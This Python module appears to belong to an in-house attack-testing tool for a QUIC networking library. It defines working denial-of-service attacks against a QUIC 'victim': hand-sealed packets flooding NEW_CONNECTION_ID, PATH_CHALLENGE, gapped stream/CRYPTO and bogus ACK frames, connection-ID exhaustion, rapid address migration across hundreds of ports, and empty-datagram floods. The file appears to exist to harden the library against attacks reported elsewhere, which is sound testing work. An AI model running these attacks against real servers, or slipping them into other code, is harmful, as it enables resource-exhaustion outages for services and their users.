"""Packets that no library sends: frames of QUIC that cost their sender little, datagrams without
bytes, and a peer that moves all the time. After what was reported of other implementations.
"""

from __future__ import annotations

import os
import socket
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from itertools import chain, count
from typing import Any, cast

import trio

from lattica.nat.base.errors import LatticaError
from lattica.nat.base.net.addresses import parse_multiaddr, to_endpoint
from lattica.nat.quic.connection import QuicConnection
from lattica.nat.quic.qh3.core import QuicCore
from lattica.nat.quic.qh3.packet_reader import PacketKeys
from lattica.nat.transport.udp_socket import Address, Received
from tools.attack.attack import Attack, Victim
from tools.attack.attacks.quic import CONNECTIONS, connected
from tools.attack.stranger import Attacker

_PAYLOAD = 1150
_AT_ONCE = 32
"""Packets after which others may go on."""
_FIRST_NUMBER = 1 << 20
"""Of packets made here: beyond those of the library's."""
_MOVES = 0.005
"""Seconds at one address."""
_PORTS = 500
"""From which a connection sends in turns."""
_BETWEEN = 0.001
_PING = b"\x01" + bytes(31)
"""With padding."""

Frames = Callable[[], Iterator[bytes]]


def varint(value: int) -> bytes:
    return (value | 0xC0 << 56).to_bytes(8, "big")


class Sealer:
    """Makes packets of a connection that is established (RFC 9001, section 5)."""

    def __init__(self, core: QuicCore, peer_cid: bytes) -> None:
        self._keys = PacketKeys(*core.traffic_secret(sent=True))
        self._cid = peer_cid
        self.number = _FIRST_NUMBER
        """Of the packet before."""

    @staticmethod
    def of(connection: QuicConnection) -> Sealer:
        return Sealer(connection.session._drive.core, connection._link._peer_cid)

    def packet(self, frames: bytes) -> bytes:
        self.number += 1
        number = (self.number & 0xFFFFFFFF).to_bytes(4, "big")
        header = b"\x43" + self._cid + number
        body = self._keys.aead.encrypt(self._keys.nonce(self.number), frames, header)
        mask = self._keys.mask(body[:16])
        first = header[0] ^ mask[0] & 0x1F
        hidden = bytes(a ^ b for a, b in zip(number, mask[1:5], strict=True))
        return bytes((first,)) + self._cid + hidden + body


def filled(frames: Iterator[bytes]) -> Iterator[bytes]:
    """Payloads of packets full of them."""
    payload = bytearray()
    for frame in frames:
        if len(payload) + len(frame) > _PAYLOAD:
            yield bytes(payload)
            payload.clear()
        payload += frame


async def _as_connections(victim: Victim, act: Callable[[QuicConnection], Awaitable[None]]) -> None:
    """Do something on so many connections; each comes again when it has lost its own."""

    async def one() -> None:
        while True:
            with suppress(LatticaError, OSError):
                async with connected(victim) as connection:
                    await trio.sleep(0.2)
                    await act(connection)
            await trio.sleep(0.02)

    async with trio.open_nursery() as nursery:
        for _ in range(CONNECTIONS):
            nursery.start_soon(one)


def _attack(name: str, summary: str, frames: Frames) -> Attack:
    async def act(connection: QuicConnection) -> None:
        link = connection._link
        sealer = Sealer.of(connection)
        # What the victim says of these packets is nothing that the library would expect.
        cast(Any, link._carrier)._deliver = lambda _: None
        for number, payload in enumerate(filled(frames())):
            connection.raise_if_closed()
            packet = sealer.packet(payload)
            if not link._carrier.send([packet], link.destination):
                await trio.sleep(0.001)
            Attacker.sent += len(packet)
            if number % _AT_ONCE == 0:
                await trio.lowlevel.checkpoint()

    async def run(victim: Victim) -> None:
        await _as_connections(victim, act)

    return Attack(name, summary, run)


def connection_ids() -> Iterator[bytes]:
    """NEW_CONNECTION_ID, each of which has the one before retired."""
    for number in count(100):
        yield b"\x18" + 2 * varint(number) + b"\x08" + os.urandom(24)


def challenges() -> Iterator[bytes]:
    while True:
        yield b"\x1a" + os.urandom(8)


def stream_gaps(stream_id: int) -> Iterator[bytes]:
    """Single bytes of a stream, with a gap before each."""
    for number in count(1 << 12):  # beyond what the introduction took of stream 0
        yield b"\x0e" + varint(stream_id) + varint(2 * number) + varint(1) + b"x"


def tls_gaps() -> Iterator[bytes]:
    """The same of what TLS has to say."""
    for number in count(1 << 12):
        yield b"\x06" + varint(2 * number) + varint(1) + b"x"


def gaps() -> Iterator[bytes]:
    """Both by turns."""
    return chain.from_iterable(zip(stream_gaps(0), tls_gaps(), strict=True))


def acknowledgements() -> Iterator[bytes]:
    """ACK of many ranges: of packets that were never sent, too."""
    for number in count(1 << 20):
        yield b"\x02" + varint(number) + varint(0) + varint(60) + varint(0) + 60 * b"\x00\x00"


async def _retire(connection: QuicConnection) -> None:
    """Use one of the victim's IDs after the other, so that it makes another one each time."""
    native = connection.session._drive.native
    while True:
        connection.raise_if_closed()
        with suppress(ValueError):  # the next one is still on its way
            native.change_connection_id()
            _ping(connection)
        await trio.lowlevel.checkpoint()


def _ping(connection: QuicConnection) -> None:
    connection.session._drive.native.send_ping(0)
    connection.session._dirty = True
    connection.wake_writer()


class _Moving:
    """In the place of a socket: sends from another address every few milliseconds."""

    def __init__(self, endpoint: Any, sock: Any) -> None:
        self._endpoint = endpoint
        self._sock = sock
        self._now: Any = None

    def __getattr__(self, name: str) -> Any:
        return getattr(self._sock, name)

    def send(self, datagrams: list[bytes], destination: Address) -> int:
        if self._now is None:
            return int(self._sock.send(datagrams, destination))
        for datagram in datagrams:
            self._now._sock.sendto(datagram, destination)
            Attacker.sent += len(datagram)
        return len(datagrams)

    async def move(self, host: str) -> None:
        """Be at an address of `host` for a while, and answer what the victim asks there."""
        with trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            await sock.bind((host, 0))
            self._now = sock
            with trio.move_on_after(_MOVES):
                while True:
                    data, source = await sock.recvfrom(65536)
                    if data:
                        self._endpoint._deliver(Received(data, len(data), source))
            self._now = None


async def _storm(connection: QuicConnection) -> None:
    """Send from one port after the other, and answer nothing that is asked there."""
    link, sealer = connection._link, Sealer.of(connection)
    destination = link.destination
    cast(Any, link._carrier)._deliver = lambda _: None  # as in _attack
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(_PORTS)]
    try:
        for number, sock in enumerate(socks):
            sock.setblocking(False)
            sock.bind((f"127.66.{number % 250 + 1}.1", 0))
        began = trio.current_time()
        for number in count():
            connection.raise_if_closed()
            packet = sealer.packet(_PING)
            socks[number % _PORTS].sendto(packet, destination)
            Attacker.sent += len(packet)
            await trio.sleep_until(began + number * _BETWEEN)
    finally:
        for sock in socks:
            sock.close()


async def _migrate_at_once(victim: Victim) -> None:
    await _as_connections(victim, _storm)


async def _move(connection: QuicConnection) -> None:
    endpoint: Any = connection._link._carrier
    moving = _Moving(endpoint, endpoint._sock)
    endpoint._sock = moving
    try:
        for number in count():
            connection.raise_if_closed()
            _ping(connection)
            await moving.move(f"127.66.{number % 250 + 1}.1")
    finally:
        endpoint._sock = moving._sock


async def _migrate(victim: Victim) -> None:
    await _as_connections(victim, _move)


async def _use_up(victim: Victim) -> None:
    await _as_connections(victim, _retire)


async def _send_nothing(victim: Victim) -> None:
    endpoint = to_endpoint(parse_multiaddr(victim.quic))
    with trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        await sock.connect((endpoint.host, endpoint.port))
        while True:
            for _ in range(_AT_ONCE):
                with suppress(OSError):
                    await sock.send(b"")


CONNECTION_IDS = _attack(
    "quic-connection-ids", "new connection IDs that retire those before", connection_ids
)
RETIRED = Attack("quic-retired-ids", "uses up the victim's connection IDs", _use_up)
CHALLENGES = _attack("quic-challenges", "PATH_CHALLENGE without end", challenges)
GAPS = _attack("quic-gaps", "single bytes of a stream and of TLS, with gaps", gaps)
ACKNOWLEDGEMENTS = _attack(
    "quic-acknowledgements", "acknowledges what was never sent, in many ranges", acknowledgements
)
MIGRATIONS = Attack(
    "quic-migrations",
    "4 connections move to another network as fast as they are followed",
    _migrate,
)
STORM = Attack(
    "quic-storm",
    "4 connections send each packet from another port, a thousand a second",
    _migrate_at_once,
)
EMPTY = Attack("quic-empty-datagrams", "datagrams without a byte", _send_nothing)
